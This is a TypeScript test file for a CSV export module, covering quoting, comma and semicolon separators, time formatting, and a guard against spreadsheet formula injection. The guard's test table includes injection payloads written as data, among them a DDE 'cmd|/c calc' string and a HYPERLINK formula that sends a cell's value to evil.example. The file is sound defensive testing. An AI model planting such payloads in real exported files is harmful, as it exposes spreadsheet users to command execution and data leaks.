// What we write is read back by a parser that is not ours, and looked at as the most careless spreadsheet would.

import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import {
  CSV_SEPARATORS,
  CSV_START,
  csvRecord,
  csvRecordOf,
  csvTimeIn,
  type CsvCell,
  type CsvSeparator,
  withFormulaGuard,
  withoutFormulaGuard,
} from '../../../worker/domain/csv.ts';
import { runs } from '../../support/deep.ts';
import { timesLonger } from '../../support/cpu-time.ts';
import { anyLetter } from '../../support/any-letter.ts';

const read = (text: string, delimiter: CsvSeparator = ','): string[][] =>
  parse(text, { bom: true, delimiter, record_delimiter: '\r\n', relax_column_count: true });
const SEPARATORS: readonly CsvSeparator[] = [',', ';'];
const onceMore = (cell: CsvCell, separator: CsvSeparator) =>
  typeof cell === 'string' ? withoutFormulaGuard(cell, separator) : cell;

describe('one record', () => {
  test.each<[CsvCell[], string]>([
    [['a', 'b'], '"a","b"\r\n'],
    [['São Paulo', 'ação'], '"São Paulo","ação"\r\n'],
    [['he said "no"'], '"he said ""no"""\r\n'],
    [['one\r\ntwo', 'a,b'], '"one\r\ntwo","a,b"\r\n'],
    [[null, '', 0], ',"",0\r\n'],
    [['x', -12_345, 1.5], '"x",-12345,1.5\r\n'],
    [
      [
        { units: -12_345, places: 2 },
        { units: 5, places: 4 },
      ],
      '-123.45,0.0005\r\n',
    ],
    [[{ units: 0, places: 2 }], '0.00\r\n'],
  ])('%j', (cells, text) => expect(csvRecord(cells)).toBe(text));

  test.each([Number.NaN, Number.POSITIVE_INFINITY])('%s is a mistake of ours, not a cell', (cell) =>
    expect(() => csvRecord([cell])).toThrow(RangeError),
  );
});

test('with semicolons, as a Brazilian spreadsheet opens columns', () => {
  expect(csvRecordOf(';')(['São Paulo', null, 'a;b', 1.5])).toBe('"São Paulo";;"a;b";1.5\r\n');
  expect(csvRecordOf(';')([{ units: -12_345, places: 2 }])).toBe('-123,45\r\n');
  // A spreadsheet that separates by commas would see the start of a cell.
  expect(csvRecordOf(';')(['olá, =1+1'])).toBe('"olá,\' =1+1"\r\n');
});

test('a time is one that spreadsheets of every country read, and a language has its separator', () => {
  expect(csvTimeIn('America/Sao_Paulo')(Date.UTC(2026, 10, 23, 9, 5))).toBe('2026-11-23 06:05:00');
  expect(CSV_SEPARATORS).toEqual({ 'pt-BR': ';', en: ',' });
});

describe('formula guard', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+5511987654321', "'+5511987654321"],
    ['-2+3+cmd|/c calc!A0', "'-2+3+cmd|/c calc!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['=HYPERLINK("http://evil.example?x="&A1)', '\'=HYPERLINK("http://evil.example?x="&A1)'],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠A1', "'＠A1"],
    ['  =1', "'  =1"],
    ['\u00A0=1', "'\u00A0=1"],
    ['\u200B=1', "'\u200B=1"],
    ['\uFEFF=1', "'\uFEFF=1"],
    ['\u0000=1', "'\u0000=1"],
    ['"=1', '\'"=1'],
    ["'=1", "''=1"],
    ['\t=1', "\t'=1"],
    ['\r=1', "\r'=1"],
    ['\n\n=1', "\n\n'=1"],
    ['olá;=1+1', "olá;'=1+1"],
    ['olá; "=1+1"', 'olá;\' "=1+1"'],
    ['olá\n@A1', "olá\n'@A1"],
    ['a\t+1', "a\t'+1"],
  ])('%j becomes %j', (text, guarded) => expect(withFormulaGuard(text)).toBe(guarded));

  test.each([
    '',
    'cliente@onca.example',
    'a=b',
    '1-2',
    'bom dia',
    '{"a":"=1"}',
    "it's",
    'x; y',
    '...=1',
    'a, =b',
    '#1',
    '(+55) 11',
  ])('%j is left alone', (text) => expect(withFormulaGuard(text)).toBe(text));

  test('a long text without an end costs time in proportion to its length', () => {
    for (const piece of ['\n', ';', ' ', "'", '\t ', ';"']) {
      const guard = (repeats: number) => () => withFormulaGuard(piece.repeat(repeats));
      expect(timesLonger(guard(20_000), guard(200_000))).toBeLessThan(50);
    }
  });
});

const awkward = fc
  .array(
    fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      ';',
      ',',
      '"',
      "'",
      '\t',
      '\r',
      '\n',
      '\r\n',
      ' ',
      '\u200B',
      '\uFEFF',
      'a',
      '1',
      'ç',
      '|',
      '😀',
    ),
  )
  .map((pieces) => pieces.join(''));
const cell = fc.oneof(awkward, fc.string({ unit: anyLetter }), fc.constant(null), fc.integer());

test('whatever is written is read back, cell by cell', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 2, maxLength: 6 }), { minLength: 1, maxLength: 5 }),
      (rows) => {
        for (const separator of SEPARATORS) {
          const back = read(CSV_START + rows.map(csvRecordOf(separator)).join(''), separator);
          expect(back.map((row) => row.map((one) => onceMore(one, separator)))).toEqual(
            rows.map((row) => row.map((value) => (value === null ? '' : String(value)))),
          );
        }
      },
    ),
    { numRuns: runs(500, 20_000) },
  );
});

test('no spreadsheet finds a formula, wherever it thinks that cells start', () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(awkward, fc.string({ unit: anyLetter })), { minLength: 1, maxLength: 5 }),
      (cells) => {
        for (const separator of SEPARATORS) {
          const record = csvRecordOf(separator)(cells);
          const others = separator === ',' ? /[;\t\r\n]/u : /[,\t\r\n]/u;
          const seen = [
            ...read(record, separator).flat(),
            ...record.split(others),
            ...cells.flatMap((text) => withFormulaGuard(text, separator).split(others)),
          ];
          for (const text of seen)
            expect(text).not.toMatch(/^(?:(?![\t\r\n])[\s\p{Cc}\p{Cf}"])*[=+\-@＝＋－＠]/u);
        }
      },
    ),
    { numRuns: runs(500, 20_000) },
  );
});
